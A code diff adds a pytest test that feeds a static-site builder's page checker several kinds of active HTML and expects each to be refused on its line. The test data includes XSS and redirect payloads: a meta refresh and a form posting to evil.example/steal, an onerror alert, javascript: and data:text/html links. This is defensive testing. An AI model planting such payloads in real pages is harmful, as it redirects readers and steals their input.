@@ -181,3 +181,24 @@ def test_the_build_refuses_a_hostile_page_and_files_before_running_anything(tmp_
                      "docs/assets/images/leak.svg:1:1: is a symbolic link"]:
         assert expected in output, output
     assert not (tmp_path / "site" / "CNAME").exists()
+
+
+# Raw HTML in a hand-written page the Content-Security-Policy does not stop: the refresh sent a reader
+# of the built about page to another address (chromium landed on it); or HTML that would load code.
+ACTIVE_HTML = {
+    '<meta http-equiv="refresh" content="0;url=https://evil.example">': "'<meta'",
+    '<form action="https://evil.example/steal"><input name=q></form>': "'<form'",
+    '<iframe src="../assets/images/a.svg"></iframe>': "'<iframe'",
+    '<script src="../assets/javascripts/book.js"></script>': "'<script'",
+    '<img src="x" onerror="alert(1)">': "'onerror='",
+    "[Click](javascript:alert(1))": "'javascript:'",
+    '<a href="data:text/html,<script>1</script>">x</a>': "'data:text/html'",
+}
+
+
+@pytest.mark.parametrize("html, shown", ACTIVE_HTML.items(), ids=list(ACTIVE_HTML))
+def test_active_html_in_a_hand_written_page_is_refused_on_its_line(valid_data, html, shown):
+    (valid_data.parent / "docs" / "page.md").write_text(f"# Page\n\nText.\n{html}\n", encoding="utf-8")
+    problems = check_pages(load_book(valid_data))
+    assert problems and all(problem.path == "docs/page.md" and problem.line == 4 for problem in problems)
+    assert problems[0].message == f"{shown} would be written into the page as it is"
